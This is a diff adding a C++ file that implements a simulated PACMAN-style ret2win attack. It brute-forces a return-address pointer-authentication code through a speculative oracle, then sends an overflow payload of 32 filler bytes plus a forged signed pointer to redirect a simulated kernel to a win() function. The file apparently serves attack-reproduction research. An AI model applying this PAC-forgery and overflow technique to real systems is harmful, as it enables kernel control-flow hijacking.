@@ -1,0 +1,76 @@
+#include "ret2win.hh"
+
+#include <algorithm>
+
+#include "attack/bruteforce.hh"
+#include "kernel/layout.hh"
+
+namespace pacman::attack
+{
+
+using namespace pacman::kernel;
+
+Ret2Win::Ret2Win(AttackerProcess &proc, unsigned trainIters,
+                 unsigned samples)
+    : proc_(proc), trainIters_(trainIters), samples_(samples)
+{
+}
+
+Ret2WinResult
+Ret2Win::run(unsigned pac_search_window)
+{
+    Ret2WinResult result;
+    auto &machine = proc_.machine();
+    auto &kern = machine.kernel();
+    kern.clearWin();
+
+    const Addr win = kern.winFn();
+    // The victim signs its return address with SP at function entry;
+    // the kernel stack placement is deterministic (known layout, the
+    // paper's threat model).
+    const uint64_t modifier = KernelStackTop;
+
+    OracleConfig cfg;
+    cfg.kind = GadgetKind::Instruction;
+    cfg.trainIters = trainIters_;
+    PacOracle oracle(proc_, cfg);
+    oracle.setTarget(win, modifier);
+    PacBruteForcer forcer(oracle, samples_);
+
+    uint16_t first = 0x0000;
+    uint16_t last = 0xFFFF;
+    if (pac_search_window != 0) {
+        const uint16_t truth = kern.truePac(
+            win, modifier, crypto::PacKeySelect::IA);
+        const uint32_t start = truth >= pac_search_window / 2
+                                   ? truth - pac_search_window / 2
+                                   : 0;
+        first = uint16_t(start);
+        last = uint16_t(std::min<uint32_t>(
+            start + pac_search_window - 1, 0xFFFF));
+    }
+    const BruteForceStats stats = forcer.search(first, last);
+    result.guessesTested = stats.guessesTested;
+    if (!stats.found) {
+        result.failure = "return-address PAC not found";
+        return result;
+    }
+    result.returnPac = *stats.found;
+
+    // Overflow: 32 filler bytes reach the saved return address; the
+    // 8 bytes after it become the forged signed pointer.
+    const Addr payload = proc_.scratchPage(202);
+    for (unsigned i = 0; i < 4; ++i)
+        machine.mem().writeVirt64(payload + 8 * i,
+                                  0x4141414141414141ull);
+    machine.mem().writeVirt64(payload + 32,
+                              isa::withExt(win, *stats.found));
+    proc_.syscall(SYS_R2W_CALL, payload, 40);
+
+    result.succeeded = kern.winTriggered();
+    if (!result.succeeded)
+        result.failure = "win() did not execute";
+    return result;
+}
+
+} // namespace pacman::attack
